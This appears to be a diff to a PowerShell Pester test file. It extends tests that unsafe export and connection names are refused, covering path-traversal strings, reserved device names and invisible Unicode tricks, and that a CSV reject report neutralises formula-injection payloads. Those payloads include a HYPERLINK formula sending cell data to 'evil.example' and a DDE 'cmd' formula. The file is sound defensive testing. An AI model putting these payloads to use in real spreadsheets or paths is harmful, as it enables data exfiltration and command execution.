@@ -27,7 +27,9 @@ AfterAll {
 Describe 'Names that would escape their folder' {
     BeforeAll {
         $script:Unsafe = @('../x', '..\x', '../../outside', '/etc/passwd', '/tmp/x', 'C:\x', 'C:x', 'a/b', 'a\b', '..', '.', '.hidden', 'x.', ' x', 'x ',
-            "a`0b", "a`nb", 'con', 'NUL.json', 'com1', 'x:y', 'a|b', 'a?b', 'a"b', 'a<b', ('a' * 65))
+            "a`0b", "a`nb", 'con', 'NUL.json', 'com1', 'x:y', 'a|b', 'a?b', 'a"b', 'a<b', ('a' * 65),
+            # Invisible and formatting characters: each looks like another name ('x', 'xexe.png', 'a b').
+            "x`u{200B}", "x`u{202E}gnp.exe", "`u{FEFF}x", "se`u{00AD}cure", "a`u{00A0}b", "x`u{2066}")
     }
 
     It 'refuses every one in Set-CCExport, Invoke-CCExport, Remove-CCExport and Get-CCExportRun, and writes nothing outside the home' {
@@ -39,7 +41,15 @@ Describe 'Names that would escape their folder' {
             Remove-CCExport -Name $name -Confirm:$false -ErrorAction SilentlyContinue -ErrorVariable removeErrors
             $removeErrors.Count | Should -BeGreaterThan 0 -Because "'$name'"
             { Get-CCExportRun -RunId $name -ErrorAction Stop } | Should -Throw -Because "'$name'"
+            if (-not [WildcardPattern]::ContainsWildcardCharacters($name)) {
+                # The same error as every other command, not an empty answer.
+                { Get-CCExportRun -Name $name -ErrorAction Stop } | Should -Throw -ErrorId 'ExportNameInvalid,*' -Because "'$name'"
+                { Get-CCExport -Name $name -ErrorAction Stop } | Should -Throw -ErrorId 'ExportNameInvalid,*' -Because "'$name'"
+            }
         }
+        { Get-CCExportRun -Name '../secrets/x' -ErrorAction Stop } | Should -Throw -ErrorId 'ExportNameInvalid,*'
+        { Get-CCExportRun -Name '../secrets/*' -ErrorAction Stop } | Should -Throw -ErrorId 'ExportNameInvalid,*'
+        @(Get-CCExportRun -Name 'sec*') | Should -BeNullOrEmpty
         { Get-CCExportRun -RunId '../../home/connections/sandbox' -ErrorAction Stop } | Should -Throw
         # Nothing new anywhere under the folder around the home, inside it only the usual folders.
         $after = @(Get-ChildItem $Outer -Recurse -Force | ForEach-Object FullName)
@@ -50,6 +60,9 @@ Describe 'Names that would escape their folder' {
     It 'refuses the same names for connections' {
         foreach ($name in $Unsafe) {
             { New-CCConnection -Name $name -ClientId x -AcceptDataPrivacyNotice } | Should -Throw -ErrorId 'InvalidConnectionName,*' -Because "'$name'"
+            if (-not [WildcardPattern]::ContainsWildcardCharacters($name)) {
+                { Get-CCConnection -Name $name -ErrorAction Stop } | Should -Throw -ErrorId 'InvalidConnectionName,*' -Because "'$name'"
+            }
         }
         (Get-ChildItem (Join-Path $TestHome 'connections')).Name | Should -Be @('sandbox.json')
     }
@@ -76,7 +89,10 @@ Describe 'A connection file edited to plain http off loopback' {
 
 Describe 'The reject report' {
     It 'holds no cell a spreadsheet would run, whatever the profiles and the file name hold' -Skip:$IsWindows {
-        $payloads = @('=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', "`t=1+1", '=cmd|'' /C calc''!A0', '"=1+1"')
+        $payloads = @('=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', "`t=1+1", '=cmd|'' /C calc''!A0', '"=1+1"',
+            # Full-width forms, the minus sign, and formula starts behind a BOM, a zero-width space or a bidirectional control.
+            "`u{FF1D}HYPERLINK(""http://evil.example"")", "`u{FF0B}1+2", "`u{FF0D}2+3", "`u{FF20}SUM(A1)", "`u{2212}2+3",
+            "`u{FEFF}=1+1", "`u{200B}+1+2", "`u{202E}`u{200B} @SUM(A1)", "`u{FEFF}`u{FF1D}1")
         $lines = @('Email,FirstName,Segments') + ($payloads | ForEach-Object { '"' + $_.Replace('"', '""') + '",Ada,Newsletter' }) + @('ok@example.com,"=1+2",Newsletter', ('long@example.com,' + ('=' * 60) + ',Newsletter'))
         # A file name from a drop folder can hold a line break and a formula of its own.
         $csv = Join-Path $TestHome "drop`n=SUM(A1)-1.csv"
@@ -87,7 +103,7 @@ Describe 'The reject report' {
         $rows.Count | Should -Be $run.InvalidCount
         foreach ($row in $rows) {
             foreach ($cell in $row.PSObject.Properties.Value) {
-                "$cell" | Should -Not -Match '^[=+\-@\t\r]' -Because "'$cell' would run as a formula"
+                "$cell" | Should -Not -Match '^[\p{Cf} ]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20\u2212]' -Because "'$cell' would run as a formula"
             }
         }
         # Read as a spreadsheet reads it, line by line outside quotes: no line starts a formula either.
